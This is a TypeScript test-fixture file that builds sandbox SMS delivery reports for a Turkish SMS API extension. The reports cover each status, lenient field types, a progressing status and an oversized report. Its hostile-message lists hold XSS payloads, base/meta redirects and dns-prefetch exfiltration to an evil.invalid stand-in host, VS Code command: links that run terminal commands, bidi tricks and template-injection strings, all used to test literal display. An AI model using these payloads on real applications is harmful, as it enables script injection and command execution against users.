// Send 187 (the API page's sample send): one number per status, lenient variants, an unknown code, hostile texts, a
// number whose status progresses, and a report far over every cap.
import { type Answer, type QueryContext, type RawReport, STATUS_CODES, type StatusCode } from './types';

// ---------------------------------------------------------------------------------------------------------------
// Send 187: the API page's own sample, one number per status, lenient variants, an unknown code, hostile texts and
// a number whose status progresses.

/** The API page's sample request: POST NumaraRaporu/187 {"numara":"5399999999"}. */
export const SAMPLE = { sendId: '187', number: '5399999999' } as const;

/** The API page's sample answer, verbatim. */
export const SAMPLE_REPORT: RawReport = {
  id: 3024,
  sms_gonderim_id: 187,
  numara: '5399999999',
  mesaj: 'Ben bir ceviz ağacıyım gülhane parkında (Ş ş Ğ ğ ç ı İ)',
  mesaj_boy: 1,
  durum_gonderim: 'DELIVERED',
  durum_iade: 0,
  created_at: '2016-08-01 14:30:14',
  updated_at: '2016-08-01 14:30:24',
};

/** The main send ID for everything below (the sample's). */
export const MAIN_SEND_ID = '187';

/** One number for each documented status, all in send 187. */
export const NUMBER_FOR_STATUS: Readonly<Record<StatusCode, string>> = {
  DEFAULT: '5301000001',
  SENDING: '5301000002',
  WAITING: '5301000003',
  DELIVERED: '5301000004',
  SENT: '5301000005',
  NOT_DELIVERED: '5301000006',
  EXPIRED: '5301000007',
  INVALID_DESTINATION_ADDRESS: '5301000008',
  REJECTED: '5301000009',
  SEND_ERROR: '5301000010',
  BLACKLISTED_DESTINATION_ADDRESS: '5301000011',
};

/** Messages with Turkish letters (ş ğ ı İ ç ö ü), one per status, as the texts a customer would really send. */
const STATUS_MESSAGES: Readonly<Record<StatusCode, string>> = {
  DEFAULT: 'Sipariş numaranız 48213. Kargonuz yarın öğleden sonra teslim edilecektir.',
  SENDING: 'Doğrulama kodunuz: 904417. Bu kodu kimseyle paylaşmayınız.',
  WAITING: 'Randevunuz 12 Şubat Çarşamba saat 14:30 için onaylandı. İptal için 0 yazıp gönderin.',
  DELIVERED: 'Ödemeniz alındı, teşekkür ederiz. Fatura bilgileriniz e-posta adresinize gönderildi.',
  SENT: 'Uluslararası gönderim denemesi: şu an teslim raporu alınamıyor (Güle güle, görüşürüz).',
  NOT_DELIVERED: 'Üyeliğiniz başarıyla oluşturuldu. Hoş geldiniz, İstanbul şubemizde görüşmek üzere!',
  EXPIRED: 'Tek kullanımlık şifreniz 5 dakika içinde geçersiz olacaktır: 771204.',
  INVALID_DESTINATION_ADDRESS: 'Aboneliğiniz yenilendi. Sorularınız için çağrı merkezimizi arayınız.',
  REJECTED: 'KAMPANYA! Tüm ürünlerde %50 indirim, hemen tıklayın: örnek.com.tr/fırsat',
  SEND_ERROR: 'Şifre sıfırlama talebiniz alındı. Bu işlemi siz yapmadıysanız lütfen bize ulaşın.',
  BLACKLISTED_DESTINATION_ADDRESS: 'Bu mesaj İYS onayı olmayan bir numaraya gönderilmek istendi; ılık öğüt: çöz.',
};

let nextRowId = 3100;
export function report(number: string, fields: Readonly<Record<string, unknown>>): RawReport {
  return {
    id: nextRowId++,
    sms_gonderim_id: 187,
    numara: number,
    mesaj: 'Sandbox mesajı: çalışıyor.',
    mesaj_boy: 1,
    durum_gonderim: 'DELIVERED',
    durum_iade: 0,
    created_at: '2024-03-15 09:12:05',
    updated_at: '2024-03-15 09:12:41',
    ...fields,
  };
}

/** Reports whose fields have the loose types the API page's samples allow. */
export const LENIENT = {
  /** id and sms_gonderim_id as strings. */
  stringIds: '5302000001',
  /** durum_iade as the string "1" (refunded). */
  refundString1: '5302000002',
  /** durum_iade as the boolean true. */
  refundTrue: '5302000003',
  /** durum_iade as the string "0". */
  refundString0: '5302000004',
  /** created_at/updated_at without seconds ("2024-03-15 09:12"). */
  datesWithoutSeconds: '5302000005',
  /** mesaj_boy as the string "2". */
  partsAsString: '5302000006',
  /** durum_gonderim in lower case with spaces around it (" delivered "). */
  statusLowerCase: '5302000007',
  /** Every loose type at once, plus a field the documentation does not list. */
  allAtOnce: '5302000008',
} as const;

const LENIENT_REPORTS: Readonly<Record<string, RawReport>> = {
  [LENIENT.stringIds]: report(LENIENT.stringIds, { id: '3201', sms_gonderim_id: '187', durum_gonderim: 'DELIVERED' }),
  [LENIENT.refundString1]: report(LENIENT.refundString1, {
    durum_gonderim: 'NOT_DELIVERED',
    durum_iade: '1',
    mesaj: 'İade edilmiş gönderim (durum_iade "1").',
  }),
  [LENIENT.refundTrue]: report(LENIENT.refundTrue, {
    durum_gonderim: 'EXPIRED',
    durum_iade: true,
    mesaj: 'İade edilmiş gönderim (durum_iade true).',
  }),
  [LENIENT.refundString0]: report(LENIENT.refundString0, { durum_iade: '0' }),
  [LENIENT.datesWithoutSeconds]: report(LENIENT.datesWithoutSeconds, {
    created_at: '2024-03-15 09:12',
    updated_at: '2024-03-15 09:14',
  }),
  [LENIENT.partsAsString]: report(LENIENT.partsAsString, {
    mesaj_boy: '2',
    mesaj:
      'Bu mesaj iki parçadan oluşuyor çünkü Türkçe karakterler (ş, ğ, ı, İ, ç, ö, ü) tek bir SMS parçasına sığan ' +
      'karakter sayısını 70 ile sınırlar; bu yüzden uzun metinler birden fazla parça olarak gönderilir.',
  }),
  [LENIENT.statusLowerCase]: report(LENIENT.statusLowerCase, { durum_gonderim: ' delivered ' }),
  [LENIENT.allAtOnce]: report(LENIENT.allAtOnce, {
    id: '3202',
    sms_gonderim_id: '187',
    mesaj_boy: '3',
    durum_iade: 'true',
    durum_gonderim: 'sent',
    created_at: '2024-03-15 09:12',
    updated_at: '2024-03-15T09:20:00',
    operator: 'Turkcell',
    fiyat: '0.0125',
  }),
};

/** A status code the documentation does not list. */
export const UNKNOWN_STATUS = { number: '5303000001', code: 'DOUBLE_SEND_ERROR' } as const;

/** Message texts that must be shown literally, never interpreted (docs/reliability.md, row 1).
 *  Append new payloads here with a fresh number; NUMBER_FOR_HOSTILE picks them up by name. */
export interface HostileEntry {
  readonly name: string;
  readonly number: string;
  readonly mesaj: string;
}
export const HOSTILE_MESSAGES: readonly HostileEntry[] = [
  {
    name: 'img-script',
    number: '5366600001',
    mesaj: `<img src=x onerror=alert(1)><script>document.title='pwned'</script>`,
  },
  {
    name: 'attribute-breakout',
    number: '5366600002',
    mesaj: `"><img src=x onerror="document.title='pwned'">'><svg onload=alert(1)>`,
  },
  {
    name: 'pre-breakout',
    number: '5366600003',
    mesaj: `</pre></code></td><svg onload="document.title='pwned'"></svg>`,
  },
  {
    name: 'base-meta',
    number: '5366600004',
    mesaj: `<base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid/">`,
  },
  {
    name: 'dns-prefetch',
    number: '5366600005',
    mesaj: `<link rel=dns-prefetch href=//DATA.evil.invalid><link rel=stylesheet href=https://evil.invalid/x.css>`,
  },
  {
    name: 'command-uri',
    number: '5366600006',
    mesaj: `[Tıkla](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%5Cn%22%7D) $(alert) javascript:alert(1) [x](javascript:alert(1))`,
  },
  {
    name: 'bidi-zero-width',
    number: '5366600007',
    mesaj: `Fatura\u202Eexe.pdf\u202C ödendi\u200B\u200C\u200D\uFEFF İıŞğ 😀👍🏽`,
  },
  { name: 'long-line', number: '5366600008', mesaj: 'Ş'.repeat(10) + 'A'.repeat(100_000 - 20) + 'ğ'.repeat(10) },
  {
    name: 'template-injection',
    number: '5366600009',
    mesaj: '${process.exit(1)} {{constructor.constructor("alert(1)")()}} <%= 7*7 %> `whoami`',
  },
];

/** The first hostile message (an <img onerror> and a <script>). */
export const HOSTILE_NUMBER = HOSTILE_MESSAGES[0].number;
export const NUMBER_FOR_HOSTILE: Readonly<Record<string, string>> = Object.fromEntries(
  HOSTILE_MESSAGES.map((h) => [h.name, h.number]),
);

/** A report whose every other field is hostile too: the echoed number, the status, the dates, the refund flag and
 *  an undocumented field (name and value). All must be shown as text (reliability row 1). */
export const HOSTILE_FIELDS = {
  number: '5366600010',
  numara: `<img src=x onerror="document.title='pwned'">5366600010`,
  status: `<svg onload="document.title='pwned'">`,
  createdAt: `<script>document.title='pwned'</script>`,
  updatedAt: `[x](command:workbench.action.reloadWindow)`,
  refund: `<b onmouseover=alert(1)>1</b>`,
  extraName: `<i onclick=alert(1)>gsm_error</i>`,
  extraValue: `<a href="javascript:alert(1)">27</a>`,
} as const;

/** Text that VS Code would render as a command link in a notification: a report whose status is one (upper-cased by
 *  the parser, which does not defuse it), and lines of a number list (docs/reliability.md, row 20). */
export const LINK_PAYLOADS = [
  '[Accepted formats](command:vairosms.clearHistory?[true])',
  '[RUN](COMMAND:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D)',
  '%5Bx%5D(command%3Avairosms.clearHistory%3F%5Btrue%5D)',
  '<a href="command:vairosms.clearHistory?[true]">x</a>',
  '[x](https://example.invalid/?q=1)',
] as const;
export const LINK_STATUS = { number: '5366600020', status: LINK_PAYLOADS[0] } as const;

/** A number whose status moves WAITING → DELIVERED: the first `progressAfter` queries (default 2) answer WAITING,
 *  later ones DELIVERED with a later updated_at. Counted per sandbox instance; Sandbox.resetProgress() restarts it. */
export const PROGRESSING = { sendId: '187', number: '5304000001' } as const;
export const DEFAULT_PROGRESS_AFTER = 2;

function progressing({ query, progressAfter }: QueryContext): RawReport {
  const delivered = query > progressAfter;
  return {
    id: 3300,
    sms_gonderim_id: 187,
    numara: PROGRESSING.number,
    mesaj: 'Kargonuz yola çıktı; takip numarası 7788. İyi günler dileriz.',
    mesaj_boy: 1,
    durum_gonderim: delivered ? 'DELIVERED' : 'WAITING',
    durum_iade: 0,
    created_at: '2024-03-15 10:00:00',
    updated_at: delivered ? '2024-03-15 10:03:27' : '2024-03-15 10:00:02',
  };
}

export function buildMainSend(): Record<string, Answer> {
  const send: Record<string, Answer> = { [SAMPLE.number]: SAMPLE_REPORT };
  send[HOSTILE_FIELDS.number] = report(HOSTILE_FIELDS.number, {
    numara: HOSTILE_FIELDS.numara,
    durum_gonderim: HOSTILE_FIELDS.status,
    created_at: HOSTILE_FIELDS.createdAt,
    updated_at: HOSTILE_FIELDS.updatedAt,
    durum_iade: HOSTILE_FIELDS.refund,
    [HOSTILE_FIELDS.extraName]: HOSTILE_FIELDS.extraValue,
  });
  for (const code of STATUS_CODES) {
    send[NUMBER_FOR_STATUS[code]] = report(NUMBER_FOR_STATUS[code], {
      durum_gonderim: code,
      mesaj: STATUS_MESSAGES[code],
      durum_iade:
        code === 'NOT_DELIVERED' || code === 'INVALID_DESTINATION_ADDRESS' || code === 'BLACKLISTED_DESTINATION_ADDRESS'
          ? 1
          : 0,
      updated_at: code === 'DEFAULT' ? '2024-03-15 09:12:05' : '2024-03-15 09:12:41',
    });
  }
  Object.assign(send, LENIENT_REPORTS);
  send[UNKNOWN_STATUS.number] = report(UNKNOWN_STATUS.number, {
    durum_gonderim: UNKNOWN_STATUS.code,
    mesaj: 'Bilinmeyen durum kodu denemesi.',
  });
  for (const h of HOSTILE_MESSAGES) {
    send[h.number] = report(h.number, { mesaj: h.mesaj, mesaj_boy: Math.max(1, Math.ceil(h.mesaj.length / 67)) });
  }
  send[PROGRESSING.number] = progressing;
  send[LINK_STATUS.number] = report(LINK_STATUS.number, { durum_gonderim: LINK_STATUS.status });
  send[OVERSIZED.number] = oversizedReport();
  send[TWELVE_DIGIT.stored] = report(TWELVE_DIGIT.stored, { durum_gonderim: 'DELIVERED' });
  return send;
}

/** A number send 187 holds only in its 12-digit form: looked up as typed (10 digits) it is not found, and the
 *  panel offers the other form once. */
export const TWELVE_DIGIT = { typed: '5307000001', stored: '905307000001' } as const;

/** A report far over every cap (docs/reliability.md, row 24): a 300 K-character message and 40 undocumented fields
 *  of 2 K characters each, in send 187. */
export const OVERSIZED = { number: '5366600030', messageLength: 300_000, extraFields: 40, extraLength: 2048 } as const;

function oversizedReport(): RawReport {
  const extra: Record<string, string> = {};
  for (let f = 0; f < OVERSIZED.extraFields; f++) extra[`alan_${f}`] = String(f % 10).repeat(OVERSIZED.extraLength);
  return report(OVERSIZED.number, { mesaj: 'Ç'.repeat(OVERSIZED.messageLength), ...extra });
}
